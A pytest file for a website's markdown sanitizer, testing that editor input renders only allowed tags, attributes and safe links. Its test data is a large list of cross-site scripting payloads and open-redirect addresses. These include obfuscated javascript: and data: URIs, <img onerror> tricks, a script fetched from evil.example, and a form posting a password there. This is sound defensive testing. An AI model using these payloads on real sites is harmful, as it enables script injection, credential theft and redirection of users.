"""What editors write becomes HTML that cannot harm a reader, whatever was written."""

import html5lib
import pytest

from league.web.markdown import is_external, markdown, safe_link

ADDRESSES = [
    "//evil.example",
    "//evil.example/games",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/%5Cevil.example",
    "/%5cevil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "&#47;&#47;evil.example",
    "&#x2f;/evil.example",
    "／／evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:evil.example",
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript:alert(1)//https://ok.example",
    "javascript://ok.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://ok.example/1",
    "about:blank",
    "ftp://evil.example",
    "ws://evil.example",
    "weixin://dl/scan",
    "intent://scan#Intent;end",
    "evil.example",
    "../desk/accounts",
    "?next=//evil.example",
]
TEXTS = [
    *(f"[words]({address})" for address in ADDRESSES),
    *(f"![words]({address})" for address in ("javascript:alert(1)", "https://evil.example/pixel.png", "//evil/x.png")),
    *(f"<{address}>" for address in ("javascript:alert(1)", "data:text/html,x", "//evil.example")),
    "[words][ref]\n\n[ref]: javascript:alert(1)",
    "[words][ref]\n\n[ref]: //evil.example",
    '[words](/games "title\\" onmouseover=\\"alert(1)")',
    "[words](/games 'x\" onclick=\"alert(1)')",
    '[a](</games" onclick="alert(1)>)',
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>body{display:none}</style>",
    "<p style=position:fixed>x</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '```html"onload="alert(1)\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | <table> |",
    "</main></body><script>alert(1)</script>",
    "<x" * 500,
]
ALLOWED = set(
    [
        "html",
        "head",
        "body",
        "p",
        "h2",
        "h3",
        "h4",
        "ul",
        "ol",
        "li",
        "strong",
        "em",
        "s",
        "blockquote",
        "hr",
        "br",
        "a",
        "code",
        "pre",
    ]
) | set(["div", "table", "thead", "tbody", "tr", "th", "td"])


def parse(text: str):
    return html5lib.parse(str(markdown(text)), namespaceHTMLElements=False)


@pytest.mark.parametrize("text", TEXTS)
def test_nothing_harmful_comes_out(text: str) -> None:
    for element in parse(text).iter():
        assert element.tag in ALLOWED
        assert set(element.attrib) <= {"href", "title", "rel", "start", "scope", "class", "tabindex"}
        address = element.get("href")
        assert address is None or safe_link(address)
        assert element.get("class") in (None, "table", "scroll")


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_that_leads_astray_is_no_link(address: str) -> None:
    links = [a.get("href") for a in parse(f"[words]({address})").iter("a") if a.get("href")]
    # What markdown-it may still make of it stays on this site.
    assert all(link.startswith("/") and not link.lower().startswith(("//", "/%5c", "/\\")) for link in links)


@pytest.mark.parametrize(
    "address",
    [
        "/games",
        "/teams/abc?x=1#y",
        "#rules",
        "https://ok.example/a",
        "http://ok.example",
        "mailto:a@ok.example",
        "tel:0514",
    ],
)
def test_a_good_address_stays_a_link(address: str) -> None:
    (link,) = parse(f"[words]({address})").iter("a")
    assert link.get("href") == address
    assert link.get("rel") == ("noopener" if is_external(address) else None)


def test_headings_stand_below_the_title_of_the_page() -> None:
    assert [
        e.tag for e in parse("# a\n\n## b\n\n### c\n\n###### d").iter() if e.tag[0] == "h" and e.tag[1:].isdigit()
    ] == [
        "h2",
        "h2",
        "h3",
        "h4",
    ]


def test_lists_tables_and_emphasis_come_through() -> None:
    html = str(markdown("3. a\n\n- **b** *c* ~~d~~\n\n|e|f|\n|-|-:|\n|1|2|\n\n> g\n\n---"))
    for part in ('<ol start="3">', "<strong>b</strong>", "<em>c</em>", "<s>d</s>", '<th scope="col">e', "<td>2</td>"):
        assert part in html
    assert html.count('<div class="scroll" tabindex="0"><table class="table">') == html.count("</table></div>") == 1


def test_a_picture_leaves_its_words() -> None:
    assert str(markdown("![开幕式](https://ok.example/a.png)")) == "<p>开幕式</p>\n"


def test_a_table_in_words_is_no_table() -> None:
    assert "<div" not in markdown("`<table>` and <table>")


def test_there_are_enough_payloads() -> None:
    assert len(set(TEXTS)) >= 60
